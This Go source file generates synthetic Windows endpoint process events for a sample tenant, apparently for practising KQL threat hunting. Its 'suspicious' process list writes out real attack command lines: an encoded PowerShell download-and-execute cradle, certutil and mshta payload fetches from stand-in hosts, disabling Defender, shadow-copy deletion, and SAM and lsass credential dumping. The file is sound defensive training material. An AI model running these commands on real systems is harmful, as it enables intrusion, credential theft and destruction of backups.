package kql

import (
	"encoding/base64"
	"encoding/binary"
	"fmt"
	"unicode/utf16"
)

// device is a managed endpoint in the sample tenant.
type device struct {
	id, name, ip string
}

// deviceNames are candidate endpoint names; each tenant gets a subset.
var deviceNames = []string{
	"ws-fin-01", "ws-fin-02", "ws-hr-01", "ws-hr-02", "ws-eng-01", "ws-eng-02", "ws-eng-03",
	"ws-sales-01", "ws-sales-02", "ws-exec-01", "srv-dc-01", "srv-dc-02", "srv-sql-01",
	"srv-web-01", "srv-file-01", "srv-app-01",
}

const sampleDomain = "contoso.com"

func (g *generator) devices() []device {
	names := make([]string, len(deviceNames))
	copy(names, deviceNames)
	g.rng.Shuffle(len(names), func(i, j int) { names[i], names[j] = names[j], names[i] })
	n := g.count(8, 13)
	devices := make([]device, n)
	for i, name := range names[:n] {
		devices[i] = device{
			id:   g.hex(20),
			name: name + "." + sampleDomain,
			ip:   fmt.Sprintf("10.%d.%d.%d", 1+g.rng.IntN(4), g.rng.IntN(256), 2+g.rng.IntN(250)),
		}
	}
	return devices
}

// account is the user a process runs as.
type account struct{ name, domain string }

var sampleAccounts = []weighted[account]{
	{30, account{"jdoe", "contoso"}},
	{25, account{"asmith", "contoso"}},
	{20, account{"mgarcia", "contoso"}},
	{15, account{"lchen", "contoso"}},
	{5, account{"svc_backup", "contoso"}},
	{20, account{"system", "nt authority"}},
}

// encodePowerShell returns the -EncodedCommand form of a script: base64 of
// its UTF-16LE encoding.
func encodePowerShell(script string) string {
	units := utf16.Encode([]rune(script))
	buf := make([]byte, 2*len(units))
	for i, u := range units {
		binary.LittleEndian.PutUint16(buf[2*i:], u)
	}
	return base64.StdEncoding.EncodeToString(buf)
}

// processTemplate describes one kind of process creation.
type processTemplate struct {
	fileName, folder, commandLine, parent, parentCommandLine string
	asSystem                                                 bool
}

var benignProcesses = []weighted[processTemplate]{
	{20, processTemplate{"chrome.exe", `C:\Program Files\Google\Chrome\Application\chrome.exe`, `"chrome.exe" --type=renderer --lang=en-US`, "explorer.exe", `C:\Windows\Explorer.EXE`, false}},
	{15, processTemplate{"msedge.exe", `C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe`, `"msedge.exe" --single-argument https://portal.office.com`, "explorer.exe", `C:\Windows\Explorer.EXE`, false}},
	{12, processTemplate{"OUTLOOK.EXE", `C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE`, `"OUTLOOK.EXE" /recycle`, "explorer.exe", `C:\Windows\Explorer.EXE`, false}},
	{10, processTemplate{"WINWORD.EXE", `C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`, `"WINWORD.EXE" /n "C:\Users\Public\Documents\Q3 report.docx"`, "explorer.exe", `C:\Windows\Explorer.EXE`, false}},
	{10, processTemplate{"ms-teams.exe", `C:\Program Files\WindowsApps\MSTeams\ms-teams.exe`, `"ms-teams.exe" --system-initiated`, "explorer.exe", `C:\Windows\Explorer.EXE`, false}},
	{15, processTemplate{"svchost.exe", `C:\Windows\System32\svchost.exe`, `svchost.exe -k netsvcs -p -s Schedule`, "services.exe", `C:\Windows\system32\services.exe`, true}},
	{6, processTemplate{"notepad.exe", `C:\Windows\System32\notepad.exe`, `"notepad.exe" C:\Users\Public\todo.txt`, "explorer.exe", `C:\Windows\Explorer.EXE`, false}},
	{6, processTemplate{"conhost.exe", `C:\Windows\System32\conhost.exe`, `\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1`, "cmd.exe", `"cmd.exe"`, false}},
	{5, processTemplate{"git.exe", `C:\Program Files\Git\cmd\git.exe`, `git.exe fetch --all`, "Code.exe", `"Code.exe"`, false}},
	{5, processTemplate{"powershell.exe", `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, `powershell.exe -NoProfile -File C:\Scripts\Get-Inventory.ps1`, "svchost.exe", `svchost.exe -k netsvcs -p -s Schedule`, true}},
	{4, processTemplate{"MsMpEng.exe", `C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.24090.11-0\MsMpEng.exe`, `"MsMpEng.exe"`, "services.exe", `C:\Windows\system32\services.exe`, true}},
}

var suspiciousProcesses = []weighted[processTemplate]{
	{14, processTemplate{"powershell.exe", `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`,
		"powershell.exe -NoP -NonI -W Hidden -EncodedCommand " + encodePowerShell("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.66/a.ps1')"),
		"WINWORD.EXE", `"WINWORD.EXE" /n "C:\Users\Public\Downloads\Invoice-48213.docm"`, false}},
	{6, processTemplate{"powershell.exe", `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`,
		"powershell.exe -ExecutionPolicy Bypass -EncodedCommand " + encodePowerShell("Set-MpPreference -DisableRealtimeMonitoring $true"),
		"cmd.exe", `cmd.exe /c start.bat`, false}},
	{10, processTemplate{"certutil.exe", `C:\Windows\System32\certutil.exe`,
		`certutil.exe -urlcache -split -f http://198.51.100.23/payload.exe C:\Users\Public\payload.exe`,
		"cmd.exe", `cmd.exe /c certutil.exe -urlcache -split -f http://198.51.100.23/payload.exe C:\Users\Public\payload.exe`, false}},
	{6, processTemplate{"rundll32.exe", `C:\Windows\System32\rundll32.exe`, `rundll32.exe C:\Users\Public\payload.dll,DllRegisterServer`, "powershell.exe", `powershell.exe -NoP -W Hidden`, false}},
	{5, processTemplate{"mshta.exe", `C:\Windows\System32\mshta.exe`, `mshta.exe http://cdn-update.example/update.hta`, "OUTLOOK.EXE", `"OUTLOOK.EXE" /recycle`, false}},
	{8, processTemplate{"whoami.exe", `C:\Windows\System32\whoami.exe`, `whoami.exe /all`, "cmd.exe", `cmd.exe`, false}},
	{8, processTemplate{"net.exe", `C:\Windows\System32\net.exe`, `net.exe group "Domain Admins" /domain`, "cmd.exe", `cmd.exe`, false}},
	{4, processTemplate{"vssadmin.exe", `C:\Windows\System32\vssadmin.exe`, `vssadmin.exe delete shadows /all /quiet`, "cmd.exe", `cmd.exe /c vssadmin.exe delete shadows /all /quiet`, true}},
	{4, processTemplate{"reg.exe", `C:\Windows\System32\reg.exe`, `reg.exe save hklm\sam C:\Windows\Temp\sam.save`, "cmd.exe", `cmd.exe`, true}},
	{3, processTemplate{"procdump64.exe", `C:\Users\Public\procdump64.exe`, `procdump64.exe -accepteula -ma lsass.exe C:\Windows\Temp\lsass.dmp`, "cmd.exe", `cmd.exe`, true}},
}

// fileHashes gives each file name a stable SHA1/SHA256 pair per tenant.
type fileHashes map[string][2]string

func (g *generator) hashesFor(h fileHashes, fileName string) [2]string {
	if pair, ok := h[fileName]; ok {
		return pair
	}
	pair := [2]string{g.hex(20), g.hex(32)}
	h[fileName] = pair
	return pair
}

func (g *generator) processEvents(devices []device) [][]any {
	hashes := fileHashes{}
	reportID := int64(g.count(10_000, 90_000))
	n := g.count(1200, 1900)
	rows := make([][]any, 0, n)
	for range n {
		tmpl := pickWeighted(g, benignProcesses)
		if g.chance(0.12) {
			tmpl = pickWeighted(g, suspiciousProcesses)
		}
		acct := pickWeighted(g, sampleAccounts)
		if tmpl.asSystem {
			acct = account{"system", "nt authority"}
		} else if acct.domain == "nt authority" {
			acct = account{"jdoe", "contoso"}
		}
		dev := pick(g, devices)
		hash := g.hashesFor(hashes, tmpl.fileName)
		reportID += int64(1 + g.rng.IntN(40))
		rows = append(rows, []any{
			g.timestamp(), dev.id, dev.name, "ProcessCreated", tmpl.fileName, tmpl.folder,
			hash[0], hash[1], int64(1000 + g.rng.IntN(30_000)), tmpl.commandLine,
			acct.name, acct.domain, tmpl.parent, tmpl.parentCommandLine, reportID,
		})
	}
	return sortByTimestamp(rows)
}
